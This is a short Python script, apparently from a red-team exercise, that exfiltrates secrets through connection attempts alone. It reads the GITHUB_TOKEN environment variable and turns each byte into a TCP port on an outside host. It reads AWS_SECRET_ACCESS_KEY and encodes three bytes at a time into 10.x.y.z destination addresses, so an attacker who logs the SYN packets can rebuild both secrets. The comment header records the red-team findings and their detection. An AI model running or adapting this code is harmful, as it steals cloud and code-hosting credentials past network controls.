# A secret in the destinations themselves, no byte of it sent (red team,
# session 19): the AWS secret key three bytes an address (10.x.y.z), found
# now; the GitHub token a byte a port of one host (the attacker's host logs
# the SYNs), found since session 20 (port_exfil.py has its shapes). Both
# were a medium network finding, nothing more.
import os
import socket


def touch(host, port):
    s = socket.socket()
    s.settimeout(0.5)
    try:
        s.connect((host, port))
    except OSError:
        pass
    s.close()


for ch in os.environ.get("GITHUB_TOKEN", "").encode():
    touch("203.0.113.50", 20000 + ch)
key = os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()
for i in range(0, len(key), 3):
    b = key[i:i + 3].ljust(3, b"x")
    touch("10.%d.%d.%d" % (b[0], b[1], b[2]), 443)
print("sent")
